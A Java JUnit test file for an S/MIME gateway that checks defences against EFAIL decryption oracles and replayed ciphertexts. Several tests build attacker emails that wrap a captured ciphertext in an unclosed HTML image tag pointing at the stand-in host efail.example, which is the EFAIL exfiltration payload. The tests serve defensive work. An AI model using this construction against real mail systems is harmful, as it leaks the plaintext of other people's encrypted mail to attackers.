package org.smimegw.core.inbound;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.smimegw.core.inbound.InboundFixture.text;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.smimegw.core.mime.RawMessage;
import org.smimegw.core.testing.TestPki;
import org.smimegw.core.testing.TestPki.Issued;

/**
 * Decryption oracles (EFAIL, USENIX Security 2018; "Re: What's up Johnny?", 2019): the attacker holds a ciphertext
 * for the organisation and wants its plaintext next to content of their own, or sent back to them. Only a whole
 * top-level layer is ever decrypted, and its plaintext replaces the whole body, so no attacker part ends up beside
 * it; a replayed ciphertext never earns the attacker a {@code pass}.
 */
class InboundOracleTest {
    private static final String SECRET = "The merger closes on Friday.";
    private static final byte[] SECRET_PART = TestMessages.ascii("Content-Type: text/plain\r\n\r\n" + SECRET
            + "\r\n");
    private static final String EVE_HEADERS = "From: Eve <eve@evil.example>\r\nTo: helpdesk@example.com\r\n"
            + "Reply-To: eve@evil.example\r\nSubject: please help\r\nMIME-Version: 1.0\r\n";

    private final InboundFixture fx = new InboundFixture();
    private final Issued bob = fx.bob;
    /** Eve has a certificate the gateway trusts (a customer, say): her signatures pass. */
    private final Issued eve = TestPki.client("eve@evil.example").issuedBy(fx.ca).build();
    /** A ciphertext for the organisation that Eve captured. */
    private final String captured = TestMessages.base64(TestMessages.envelopedDer(SECRET_PART, bob.certificate(),
            false));

    private static String envelopedPart(String base64) {
        return "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + base64;
    }

    private void assertUntouched(byte[] message, InboundResult result) {
        assertEquals(new EncryptionOutcome.NotEncrypted(), result.encryption());
        assertArrayEquals(RawMessage.parse(message).body().toByteArray(), result.message().body().toByteArray());
        assertFalse(text(result).contains(SECRET));
    }

    @Test
    void ciphertextBetweenAttackerHtmlPartsStaysEncrypted() {
        byte[] message = TestMessages.ascii(EVE_HEADERS + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
                + "--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://efail.example/\r\n"
                + "--b\r\n" + envelopedPart(captured)
                + "--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n");

        assertUntouched(message, fx.process(message));
    }

    @Test
    void ciphertextNestedDeeperInMultipartsStaysEncrypted() {
        byte[] message = TestMessages.ascii(EVE_HEADERS + "Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n"
                + "--a\r\nContent-Type: multipart/alternative; boundary=\"b\"\r\n\r\n"
                + "--b\r\nContent-Type: text/html\r\n\r\n<p>hello</p>\r\n"
                + "--b\r\n" + envelopedPart(captured) + "--b--\r\n--a--\r\n");

        assertUntouched(message, fx.process(message));
    }

    @Test
    void encryptedMessageAttachedAsMessageRfc822StaysEncrypted() {
        byte[] message = TestMessages.ascii(EVE_HEADERS + "Content-Type: message/rfc822\r\n\r\n"
                + "From: alice@example.com\r\nMIME-Version: 1.0\r\n" + envelopedPart(captured));

        assertUntouched(message, fx.process(message));
    }

    @Test
    void ciphertextFollowedByAttackerHtmlInTheSameBodyIsNotDecrypted() {
        byte[] message = TestMessages.ascii(EVE_HEADERS + envelopedPart(captured)
                + "<img src=\"http://efail.example/\r\n");

        InboundResult result = fx.process(message);

        assertInstanceOf(EncryptionOutcome.Failed.class, result.encryption());
        assertArrayEquals(RawMessage.parse(message).body().toByteArray(), result.message().body().toByteArray());
        assertFalse(text(result).contains(SECRET));
    }

    @Test
    void signatureAroundAMultipartHoldingTheCiphertextDoesNotOpenIt() {
        byte[] content = TestMessages.ascii("Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
                + "--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://efail.example/\r\n"
                + "--b\r\n" + envelopedPart(captured) + "--b--\r\n");

        InboundResult result = fx.process(TestMessages.opaqueSigned(EVE_HEADERS, content, eve,
                List.of(eve.certificate())));

        assertEquals(new EncryptionOutcome.NotEncrypted(), result.encryption());
        assertFalse(text(result).contains(SECRET));
        assertTrue(text(result).contains(captured.substring(0, 60)), "the ciphertext is passed on as it came");
    }

    @Test
    void encryptionInsideEncryptionIsOpenedOnceOnly() {
        byte[] inner = TestMessages.ascii(envelopedPart(captured));
        byte[] message = TestMessages.pkcs7Mime(EVE_HEADERS, "enveloped-data",
                TestMessages.envelopedDer(inner, bob.certificate(), false));

        InboundResult result = fx.process(message);

        assertEquals(new EncryptionOutcome.Decrypted(fx.bobFingerprint), result.encryption());
        assertFalse(text(result).contains(SECRET));
        assertTrue(result.message().header("Content-Type").orElseThrow().contains("enveloped-data"));
    }

    @Test
    void replayedCiphertextUnderAttackerHeadersIsUnsignedForTheAttacker() {
        byte[] message = TestMessages.ascii(EVE_HEADERS + envelopedPart(captured));

        InboundResult result = fx.process(message);

        // decrypting is the gateway's job; the verdict tells the helpdesk that Eve did not write it
        assertEquals(new EncryptionOutcome.Decrypted(fx.bobFingerprint), result.encryption());
        assertEquals(new SmimeResult.None(), result.verdict());
        assertEquals(List.of("eve@evil.example"), result.message().headerValues("Reply-To"));
    }

    @Test
    void replayedSignedCiphertextUnderAttackerHeadersIsPolicyNotPass() {
        byte[] signedByAlice = TestMessages.signedBy("", fx.alice, List.of(fx.alice.certificate()));
        byte[] message = TestMessages.pkcs7Mime(EVE_HEADERS, "enveloped-data",
                TestMessages.envelopedDer(signedByAlice, bob.certificate(), false));

        InboundResult result = fx.process(message);

        assertEquals(new EncryptionOutcome.Decrypted(fx.bobFingerprint), result.encryption());
        assertEquals("signer alice@example.com is not the From address eve@evil.example",
                result.verdict().reason().orElseThrow());
    }

    @Test
    void attackerSignatureAroundACapturedCiphertextIsNoProofOfAuthorship() {
        byte[] enveloped = TestMessages.ascii(envelopedPart(captured));
        byte[] message = TestMessages.multipartSigned(EVE_HEADERS, enveloped, TestMessages.der(
                TestMessages.sign(enveloped, eve, List.of(eve.certificate()), "SHA256withRSA", false)));

        InboundResult result = fx.process(message);

        assertEquals(new EncryptionOutcome.Decrypted(fx.bobFingerprint), result.encryption());
        assertInstanceOf(SmimeResult.Policy.class, result.verdict(), () -> result.verdict().toString());
        assertEquals(InboundPipeline.SIGNED_CIPHERTEXT_ONLY, result.verdict().reason().orElseThrow());
        assertEquals("eve@evil.example", result.verdict().signer().orElseThrow().email().orElseThrow());
    }
}
